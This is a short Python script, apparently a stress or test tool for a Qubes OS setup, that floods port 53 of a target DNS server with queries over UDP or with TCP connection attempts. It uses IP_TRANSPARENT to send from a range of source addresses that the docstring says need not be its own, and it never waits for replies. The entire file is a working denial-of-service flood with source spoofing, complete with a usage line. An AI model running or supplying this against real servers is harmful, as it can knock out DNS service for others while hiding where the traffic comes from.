"""A qube that asks far too much: COUNT questions to port 53 of SERVER, as fast as it can, in turn from ADDRESSES
addresses of IPv4 that begin with FIRST, whether they are its own or not; `tcp` opens connections in place of them,
and waits for none.

    dns-flood.py udp|tcp SERVER FIRST ADDRESSES COUNT
"""

import ipaddress
import socket
import sys

QUESTION = bytes.fromhex("0007 0100 0001 0000 0000 0000 04676f6f64 076578616d706c65 00 0001 0001")
TRANSPARENT = 19

kind, server, first, addresses, count = sys.argv[1:]
first = ipaddress.IPv4Address(first)


def bound(number):
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM)
    one.setblocking(False)
    one.setsockopt(socket.IPPROTO_IP, TRANSPARENT, 1)
    one.bind((str(first + number % int(addresses)), 0))
    return one


own = bound(0)
for number in range(int(count)):
    one = own if kind == "udp" and addresses == "1" else bound(number)
    try:
        if kind == "udp":
            one.sendto(QUESTION, (server, 53))
        else:
            one.connect((server, 53))
    except BlockingIOError:
        pass
